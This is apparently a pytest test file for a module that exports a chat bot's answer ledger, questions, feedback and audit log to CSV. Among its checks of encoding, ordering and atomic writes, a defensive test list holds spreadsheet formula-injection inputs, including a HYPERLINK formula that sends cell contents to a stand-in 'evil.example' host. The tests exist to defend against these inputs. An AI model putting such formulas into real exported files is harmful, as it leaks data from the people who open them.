import csv
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from sqlalchemy import Connection, insert

from library import ARRIVAL, Library
from verbale.answer import Citation, Outcome, Reason
from verbale.errors import Refused
from verbale.language import Language
from verbale.quote import Quote
from verbale.store import audit
from verbale.store.audit import Act
from verbale.store.export import export
from verbale.store.ledger import KeptAnswer, Said, keep_answer, record
from verbale.store.schema import answers
from verbale.store.verdicts import Verdict, give

AT = datetime(2025, 3, 4, 12, 30, 15, 123456, tzinfo=UTC)
GROUP = -1_001_234_567_890
NAMES = ["ledger.csv", "questions.csv", "feedback.csv", "audit.csv"]


@pytest.fixture
def connection(library: Library) -> Iterator[Connection]:
    with library.database.writing() as opened:
        yield opened


def said(connection: Connection, part: int, quotes: tuple[Quote, ...], chat_id: int | None = GROUP) -> None:
    record(
        connection,
        Said(
            bot_id=7,
            update_id=900,
            part=part,
            kind="answer",
            chat_id=chat_id,
            thread_id=3 if chat_id else None,
            message_id=501 + part if chat_id else None,
            inline_message_id=None if chat_id else "inline",
            answer_id=1,
            first=0,
            quotes=quotes,
            sent_at=AT,
        ),
    )


def asked(connection: Connection, answer_id: int, question: str | None, reason: Reason | None = None) -> None:
    citations = (Citation(Quote("arrival", 1, 0, 5)), Citation(Quote("arrival", 1, 6, 9)))
    keep_answer(
        connection,
        KeptAnswer(
            id=answer_id,
            chat_id=GROUP,
            thread_id=None,
            question_message_id=None,
            user_id=None if question is None else 42,
            question=question,
            language=Language.TAJIK,
            outcome=Outcome.ANSWERED if reason is None else Outcome.NOT_SAID,
            reason=reason,
            confidence=0.8125,
            citations=citations if reason is None else (),
            scope=None,
            follows=None,
            asked_at=AT + timedelta(minutes=answer_id),
        ),
    )


def table(file: Path) -> list[list[str]]:
    """The rows of a file as any reader of CSV finds them, without the names of the columns."""
    with file.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream, strict=True))[1:]


def test_an_empty_library_has_the_columns_alone(connection: Connection, tmp_path: Path) -> None:
    files = export(connection, tmp_path / "export" / "march")
    assert files == tuple(tmp_path / "export" / "march" / name for name in NAMES)
    heads = [file.read_bytes().removeprefix(b"\xef\xbb\xbf").splitlines()[0].decode() for file in files]
    assert heads == [
        "sent_at,chat,thread,message,kind,briefing,edition,start,end",
        "asked_at,chat,user,question,language,outcome,reason,confidence,quotes",
        "given_at,answer,good,reason",
        "number,at,actor,act,subject,details,previous_sha256,sha256",
    ]
    assert [len(table(file)) for file in files] == [0, 0, 0, 1]
    assert sorted(path.name for path in (tmp_path / "export" / "march").iterdir()) == sorted(NAMES)


def test_every_file_begins_with_the_mark_by_which_office_programs_know_utf_8(
    connection: Connection, tmp_path: Path
) -> None:
    asked(connection, 1, "Қанча локомотив? 🚂")
    for file in export(connection, tmp_path):
        data = file.read_bytes()
        assert data[:3] == b"\xef\xbb\xbf"
        assert data.count(b"\xef\xbb\xbf") == 1
        assert data.endswith(b"\r\n")
    assert "Қанча локомотив? 🚂".encode() in (tmp_path / "questions.csv").read_bytes()


def test_a_message_has_a_row_for_each_of_its_quotes(connection: Connection, tmp_path: Path) -> None:
    said(connection, 0, (Quote("arrival", 1, 187, 247), Quote("визит-душанбе", 3, 0, 61)))
    said(connection, 1, ())
    said(connection, 2, (Quote("arrival", 2, 5, 9),), chat_id=None)
    moment, chat = "2025-03-04T12:30:15+00:00", str(GROUP)
    assert table(export(connection, tmp_path)[0]) == [
        [moment, chat, "3", "501", "answer", "arrival", "1", "187", "247"],
        [moment, chat, "3", "501", "answer", "визит-душанбе", "3", "0", "61"],
        [moment, chat, "3", "502", "answer", "", "", "", ""],
        [moment, "", "", "", "answer", "arrival", "2", "5", "9"],
    ]


def test_questions_come_oldest_first_with_what_became_of_them(connection: Connection, tmp_path: Path) -> None:
    asked(connection, 2, None, Reason.NOT_SAID)
    asked(connection, 1, 'Кай "кушода" мешавад,\nпул?')
    assert table(export(connection, tmp_path)[1]) == [
        [
            "2025-03-04T12:31:15+00:00",
            str(GROUP),
            "42",
            'Кай "кушода" мешавад,\nпул?',
            "tg",
            "answered",
            "",
            "0.8125",
            "2",
        ],
        ["2025-03-04T12:32:15+00:00", str(GROUP), "", "", "tg", "not_said", "NOT_SAID", "0.8125", "0"],
    ]


def test_verdicts_are_one_or_zero_with_their_reason(connection: Connection, tmp_path: Path) -> None:
    give(connection, 1, 42, Verdict(is_good=False, reason="wrong"), AT)
    give(connection, 1, 43, Verdict(is_good=True, reason=None), AT.astimezone(timezone(timedelta(hours=5))))
    assert table(export(connection, tmp_path)[2]) == [
        ["2025-03-04T12:30:15+00:00", "1", "0", "wrong"],
        ["2025-03-04T12:30:15+00:00", "1", "1", ""],
    ]


def test_the_log_is_exported_as_it_was_sealed(connection: Connection, tmp_path: Path) -> None:
    sha256 = audit.append(connection, AT, "user 42", Act.MEMBER_ADDED, "press", {"member": GROUP, "name": "Матбуот"})
    first, second = table(export(connection, tmp_path)[3])
    assert first[:5] == ["1", first[1], "program", "log begun", ""]
    assert second == [
        "2",
        "2025-03-04T12:30:15.123456+00:00",
        "user 42",
        "member added",
        "press",
        '{"member": -1001234567890, "name": "Матбуот"}',
        first[7],
        sha256,
    ]


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+7 992 123",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1＋1",
]


@pytest.mark.parametrize("question", FORMULAS)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(
    connection: Connection, tmp_path: Path, question: str
) -> None:
    asked(connection, 1, question)
    assert table(export(connection, tmp_path)[1])[0][3] == f"'{question}"


@pytest.mark.parametrize("question", ["a=1", " =1", "'=1", "", "Сколько = 5?", "5-6", "«=»"])
def test_other_text_stays_as_it_is(connection: Connection, tmp_path: Path, question: str) -> None:
    asked(connection, 1, question)
    assert table(export(connection, tmp_path)[1])[0][3] == question


def test_text_from_people_is_made_harmless_wherever_it_stands(connection: Connection, tmp_path: Path) -> None:
    said(connection, 0, (Quote("-minus", 1, 0, 5),))
    audit.append(connection, AT, "user 42", Act.FEED_ADDED, "@feed")
    ledger, _, _, log = (table(file) for file in export(connection, tmp_path))
    assert ledger[0][5] == "'-minus"
    assert log[1][4] == "'@feed"


def test_numbers_below_zero_stay_numbers(connection: Connection, tmp_path: Path) -> None:
    asked(connection, 1, "?")
    said(connection, 0, ())
    ledger, questions, _, _ = export(connection, tmp_path)
    assert f",{GROUP},".encode() in ledger.read_bytes()
    assert f",{GROUP},".encode() in questions.read_bytes()


def test_an_export_takes_the_place_of_an_earlier_one(connection: Connection, tmp_path: Path) -> None:
    asked(connection, 1, "first")
    folder = tmp_path / "export"
    export(connection, folder)
    asked(connection, 2, "second")
    assert [row[3] for row in table(export(connection, folder)[1])] == ["first", "second"]
    assert sorted(path.name for path in folder.iterdir()) == sorted(NAMES)


def test_an_export_that_fails_leaves_the_earlier_one_and_no_scraps(
    connection: Connection, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "export"
    asked(connection, 1, "first")
    before = [file.read_bytes() for file in export(connection, folder)]
    asked(connection, 2, "second")

    def full(at: datetime) -> str:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("verbale.store.export._moment", full)
    with pytest.raises(Refused, match=r"cannot be written.*No space left"):
        export(connection, folder)
    assert [(folder / name).read_bytes() for name in NAMES] == before
    assert sorted(path.name for path in folder.iterdir()) == sorted(NAMES)


def test_a_folder_that_is_a_file_is_refused(connection: Connection, tmp_path: Path) -> None:
    (tmp_path / "export").write_text("no folder")
    with pytest.raises(Refused, match="The export cannot be written") as refused:
        export(connection, tmp_path / "export")
    assert refused.value.remedy == "Check the folder and the disk."


def test_rows_are_streamed(connection: Connection, tmp_path: Path) -> None:
    """All the questions together take several times the memory that writing them does."""
    question = "Кай кушода мешавад? " * 50
    each = {"chat_id": 1, "language": "tg", "outcome": "answered", "confidence": 1.0, "citations": [], "asked_at": AT}
    connection.execute(
        insert(answers), [{"id": number, "question": f"{question}{number}", **each} for number in range(10_000)]
    )
    tracemalloc.start()
    files = export(connection, tmp_path)
    peak_bytes = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert files[1].stat().st_size > 17_000_000
    assert peak_bytes < 6_000_000


def test_an_edition_that_was_taken_in_stands_in_the_exported_log(library: Library, tmp_path: Path) -> None:
    library.add("arrival", ARRIVAL)
    with library.database.reading() as opened:
        rows = table(export(opened, tmp_path)[3])
    assert [row[3:5] for row in rows] == [["log begun", ""], ["published", "arrival"]]
